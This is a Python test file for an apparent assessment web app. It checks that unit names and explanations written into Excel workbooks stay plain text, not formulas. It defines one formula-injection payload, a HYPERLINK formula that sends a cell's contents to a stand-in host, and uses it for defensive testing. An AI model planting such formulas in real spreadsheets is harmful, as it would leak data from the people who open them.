"""No user text becomes a formula in the workbooks the web app writes (issue 8 §2.3): the unit's self-evaluation
sheet and the cycle's results workbook; the sheet's round trip returns the text unchanged."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import load_workbook

from kaohe.assessments import actions
from kaohe.assessments.models import Unit
from kaohe.reports import excel
from tests.world import GOOD_VALUES, World

HOSTILE = '=HYPERLINK("http://x?x="&A1,"click")'


def text_cells(data: bytes) -> dict[str, list[str]]:
    """Sheet title → its text cells holding the hostile text; no cell anywhere may be a formula."""
    found: dict[str, list[str]] = {}
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.data_type == "s"
                    found.setdefault(ws.title, []).append(cell.value)
    return found


def test_the_self_evaluation_sheet_writes_hostile_text_as_text_and_reads_it_back(world: World) -> None:
    Unit.objects.filter(pk=world.units["A"].pk).update(name=HOSTILE)  # as the office could name it in the admin
    item = world.item("A", "2")
    actions.check_save_self_evaluation(
        item=item,
        raw_values={"good_days": 86.5},
        self_score=Decimal("40"),
        explanation=HOSTILE,
        version=item.version,
        acting_user=world.people["fay"],
    )
    data = excel.write_sheet(world.assessment("A"))
    found = text_cells(data)
    assert found[excel.SHEET] == ["'" + HOSTILE]  # the explanation
    assert found["填写说明"][0].startswith("'" + HOSTILE + "（220100）")  # the unit's name heads the instructions
    # Uploaded back unchanged: the apostrophe is removed again, so nothing differs from the stored item.
    assert excel.read_sheet(world.assessment("A"), data) == []


def test_a_changed_explanation_that_looks_like_a_formula_is_read_as_typed(world: World) -> None:
    wb = load_workbook(io.BytesIO(excel.write_sheet(world.assessment("A"))))
    ws = wb[excel.SHEET]
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=1).value == "2")
    header = [c.value for c in ws[1]]
    ws.cell(row=row, column=header.index("自评说明") + 1, value="'-5 天未达标")  # as kaohe writes "-5 天未达标"
    buffer = io.BytesIO()
    wb.save(buffer)
    [change] = excel.read_sheet(world.assessment("A"), buffer.getvalue())
    assert change.explanation == "-5 天未达标"


def test_the_results_workbook_writes_a_hostile_unit_name_as_text(world: World) -> None:
    Unit.objects.filter(pk=world.units["A"].pk).update(name=HOSTILE)
    # a veto for the unit, so that it also appears on the 一票否决与政务失信 sheet
    actions.do_import_monitoring_values(
        cycle=world.cycle,
        rows=[{"unit_id": "220100", "major_incident": True}],
        source="事件台账",
        acting_user=world.people["alice"],
    )
    for unit in ("A", "B", "C"):
        world.fill(unit, GOOD_VALUES)
        world.submit(unit)
        world.verify_all(unit)
    actions.check_evaluate_cycle(cycle=world.cycle, acting_user=world.people["alice"])
    found = text_cells(excel.write_cycle_results(world.cycle))
    assert found["市"] == ["'" + HOSTILE]
    assert found["指标得分"] == ["'" + HOSTILE]
    assert found["一票否决与政务失信"] == ["'" + HOSTILE]
